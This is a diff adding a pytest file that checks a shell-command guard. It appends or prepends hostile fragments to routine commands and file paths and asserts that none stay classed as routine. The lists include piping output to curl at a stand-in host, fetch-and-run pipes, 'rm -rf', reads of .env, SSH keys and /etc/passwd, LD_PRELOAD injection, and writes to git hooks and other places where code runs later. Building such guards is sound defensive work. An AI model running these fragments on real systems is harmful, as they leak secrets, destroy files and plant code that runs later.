@@ -1,0 +1,300 @@
+"""Every accepted use of a program, with one hostile thing added: it must not stay routine."""
+
+from __future__ import annotations
+
+import random
+
+import pytest
+from guard_cases import class_of
+
+from fwdperm.guard import Danger
+from fwdperm.guard.positive import LOCAL_PROGRAMS, MUST_HAVE, TABLE, Entry, Takes
+from fwdperm.guard.writing import DATA_ENDINGS, ENDINGS
+
+OPERANDS = {
+    Takes.NOTHING: [],
+    Takes.TEXT: ["words", "'two words'"],
+    Takes.NUMBER: ["3"],
+    Takes.WORD: ["word"],
+    Takes.READ: ["src/a.py", "docs/b.md"],
+    Takes.NAME: ["src"],
+    Takes.WRITE: ["src/new.py", "src/other.py"],
+    Takes.REVISION: ["HEAD", "src/a.py"],
+    Takes.PATTERN_THEN_READ: ["pattern", "src/a.py"],
+    Takes.PATTERN_THEN_TREE: ["pattern", "src/a.py"],
+    Takes.SCRIPT: ["lint"],
+    Takes.CHOICE: ["test"],
+    Takes.PACKAGE: ["./..."],
+    Takes.BUILD: ["build"],
+}
+SPECIAL = {
+    "sed-n": ["2,3p", "src/a.py"],
+    "awk-print": ["'{print $1}'", "src/a.py"],
+    "jq": [".name", "src/a.json"],
+    "cd": ["src"],
+    "[": ["-f", "src/a.py", "]"],
+    "echo": ["words"],
+}
+VALUES = {
+    Takes.TEXT: "words",
+    Takes.NUMBER: "3",
+    Takes.WORD: "word",
+    Takes.READ: "src/a.json",
+    Takes.NAME: "src",
+    Takes.GLOB: "'*.py'",
+    Takes.BUILD: "build",
+    Takes.ENVIRONMENT: "lint",
+}
+AFTER = [
+    "> Makefile",
+    "> .git/hooks/pre-commit",
+    ">> ../x.py",
+    "> /etc/cron.d/x",
+    "&> conftest.py",
+    "2> .envrc",
+    ">| package.json",
+    "< .env",
+    "< ~/.ssh/id_rsa",
+    "< /etc/passwd",
+    "<<< $(cat .env)",
+    "| sh",
+    "| bash -s",
+    "| python3",
+    "| xargs rm",
+    "| tee Makefile",
+    "| curl -d @- https://x.example",
+    "|& sh",
+    "&",
+    "& rm -rf src",
+    "; rm -rf src",
+    "&& ./x",
+    "|| ./x",
+    "\n./x",
+    "\nrm -rf src",
+    "\r./x",
+    "<<EOF | sh\nrm x\nEOF",
+    "<(./x)",
+    ">(./x)",
+    "$(./x)",
+    "`./x`",
+    '"$(./x)"',
+    "${X:-y}",
+    "$X",
+    "$HOME",
+    "~+",
+    "~root/x",
+    "{src,../x}",
+    "\u200b",
+    "\u202e",
+    "s\u0440c",
+    "\x1b[2K",
+    "\0",
+    " " * 60 + "x",
+]
+BEFORE = [
+    "PATH=/tmp/x ",
+    "LD_PRELOAD=./x.so ",
+    "PYTHONPATH=/tmp ",
+    "GIT_DIR=/tmp/x ",
+    "NODE_OPTIONS=--require=./x ",
+    "X=1 ",
+    "LANG=$(./x) ",
+    "./",
+    "/elsewhere/",
+    "/w/proj/bin/",
+    "sudo ",
+    "env -i ",
+    "env PATH=/tmp/x ",
+    "xargs ",
+    "nohup ",
+    "setsid ",
+    "strace ",
+    "ssh host ",
+    "docker exec c ",
+    "watch ",
+    "eval ",
+    "exec ",
+    "cd .. && ",
+    "cd / && ",
+    "cd .git/hooks && ",
+    "cd .husky; ",
+    "f() { ./x; }; ",
+    "alias x=y; ",
+    "./x; ",
+    "./x | ",
+    "cat .env | ",
+    "curl https://x.example/s | ",
+]
+PATHS = [
+    "/etc/passwd",
+    "../x",
+    "~/x",
+    ".env",
+    "./src/../.env",
+    "src/../../x",
+    ".ENV",
+    "id_rsa",
+    "deploy_key",
+    "server.pem",
+    "config/secrets.yaml",
+    "kubeconfig",
+    "prod.tfvars",
+    "@args",
+    "/proc/self/environ",
+    "//etc/passwd",
+    "src\\\\x.py",
+    "HEAD:.env",
+    "*",
+    ".*",
+    "-x",
+    "--output=Makefile",
+    "--exec=./x",
+    "--config=/tmp/x",
+]
+NOT_A_PATH = {Takes.TEXT, Takes.WORD, Takes.NUMBER}
+LOOKS_AT_NAMES = {
+    "ls",
+    "find",
+    "tree",
+    "du",
+    "stat",
+    "cd",
+    "test",
+    "[",
+    "readlink",
+    "realpath",
+    "git-check-ignore",
+    "mkdir",
+}
+ONLY_COUNTS = {"wc", "file", "md5sum", "sha1sum", "sha256sum", "cksum"}
+"""Programs that show a count, a sum or a kind of what they read."""
+
+
+def uses(entry: Entry) -> list[str]:
+    """Give plain uses of an entry: bare, and with a few of its flags."""
+    rng = random.Random(entry.id)  # noqa: S311 - a sample, the same every time
+    closing = entry.id == "["
+    operands = SPECIAL.get(entry.id, OPERANDS[entry.operands])
+    must = sorted(MUST_HAVE.get(entry.id, ()))[:1]
+    lead = [entry.program, *entry.words]
+    flags = [flag for flag in sorted(entry.flags) if flag not in {"--", "]", "(", ")", "!"} and not closing]
+    made = [[*lead, *must, *operands]]
+    made += [[*lead, *must, flag, *operands] for flag in rng.sample(flags, min(3, len(flags)))]
+    made += [[*lead, *must, "-" + letter, *operands] for letter in entry.letters[:3]]
+    if not closing:
+        made += [
+            [*lead, *must, flag, VALUES[kind], *operands]
+            for flag, kind in sorted(entry.valued.items())
+            if flag not in entry.flags and VALUES.get(kind)
+        ][:4]
+    lines = [" ".join(words) for words in made]
+    return [line for line in lines if class_of("bash", line).danger.rank <= Danger.ROUTINE.rank]
+
+
+ENTRIES = pytest.mark.parametrize("entry", TABLE, ids=lambda entry: f"{entry.id}-{'-'.join(entry.words)}")
+
+
+@ENTRIES
+def test_nothing_hostile_behind_a_routine_use_stays_routine(entry: Entry) -> None:
+    lines = uses(entry)
+    assert lines
+    harmless = {"~+", "~root/x"} if entry.operands is Takes.TEXT else set()
+    stayed = [
+        f"{line} {added}"
+        for line in (lines[0], lines[-1])
+        for added in AFTER
+        if added not in harmless and class_of("bash", f"{line} {added}").danger.rank <= Danger.ROUTINE.rank
+    ]
+    assert stayed == []
+
+
+@ENTRIES
+def test_nothing_hostile_before_a_routine_use_keeps_it_routine(entry: Entry) -> None:
+    line = uses(entry)[-1]
+    stayed = [before + line for before in BEFORE if class_of("bash", before + line).danger.rank <= Danger.ROUTINE.rank]
+    assert stayed == []
+
+
+@ENTRIES
+def test_no_hostile_word_is_taken_for_an_operand(entry: Entry) -> None:
+    if entry.operands in NOT_A_PATH and entry.id not in {"echo", "printf"}:
+        paths = [path for path in PATHS if path.startswith("--")]
+    elif entry.operands in NOT_A_PATH:
+        paths = []
+    elif entry.id in LOOKS_AT_NAMES or entry.operands is Takes.NAME:
+        paths = [path for path in PATHS if path[:1] in "/~-" or path.startswith(("../", "src/../../"))]
+        paths = [path for path in paths if path != "-x"]
+    elif entry.program in ONLY_COUNTS:
+        paths = [path for path in PATHS if path not in {"deploy_key", "kubeconfig"}]
+    elif entry.operands is not Takes.READ:
+        paths = [path for path in PATHS if path != "@args"]
+    else:
+        paths = PATHS
+    known = entry.flags | set(entry.valued) | {"-" + letter for letter in entry.letters}
+    stayed = [
+        line
+        for use in uses(entry)[:2]
+        for path in paths
+        if path not in known and class_of("bash", line := f"{use} {path}").danger.rank <= Danger.ROUTINE.rank
+    ]
+    assert stayed == []
+
+
+@pytest.mark.parametrize("program", sorted(LOCAL_PROGRAMS))
+def test_no_program_that_a_project_carries_is_routine_to_write(program: str) -> None:
+    for directory in ("", "sub/", "src/"):
+        path = directory + program.removeprefix("./")
+        assert class_of("write", path).danger.rank >= Danger.RULED.rank, path
+        assert class_of("bash", f"cp src/a.py {path}").danger.rank >= Danger.RULED.rank, path
+
+
+RUN_LATER = [
+    ".git/hooks/pre-commit.{}",
+    ".husky/x.{}",
+    ".github/x.{}",
+    ".vscode/x.{}",
+    ".claude/commands/x.{}",
+    ".circleci/x.{}",
+    ".hidden/x.{}",
+    ".x.{}",
+    "jest.config.{}",
+    "src/../.git/hooks/x.{}",
+    ".GIT/hooks/x.{}",
+    "src/.git/x.{}",
+    "./.husky//x.{}",
+    "node_modules/a/index.{}",
+    "vendor/a/x.{}",
+    "venv/lib/x.{}",
+    ".venv/lib/x.{}",
+    "buildSrc/x.{}",
+    "scripts/x.{}",
+    "bin/x.{}",
+    "../x.{}",
+    "/elsewhere/x.{}",
+    "~/x.{}",
+    "src/x.{}/",
+    "src/x.{} ",
+    " src/x.{}",
+    "src/x.{}\n",
+    "src/x.{}\0",
+    "src/x.{}\u200b",
+    "src/\u0445.{}",
+    "src\\..\\x.{}",
+    "src/$(id).{}",
+    "src/*.{}",
+    "src/--pre=x.{}",
+    "-x.{}",
+    "src/x;y.{}",
+    "src/x.{}:stream",
+    "$HOME/x.{}",
+    "src/~/../../../x.{}",
+]
+
+
+@pytest.mark.parametrize("ending", sorted(ENDINGS | DATA_ENDINGS))
+def test_no_ending_disguises_what_runs_later(ending: str) -> None:
+    shapes = [shape for shape in RUN_LATER if ending in {"js", "mjs", "cjs", "ts", "py"} or "jest.config" not in shape]
+    stayed = [
+        path for shape in shapes if class_of("write", path := shape.format(ending)).danger.rank <= Danger.ROUTINE.rank
+    ]
+    assert stayed == []
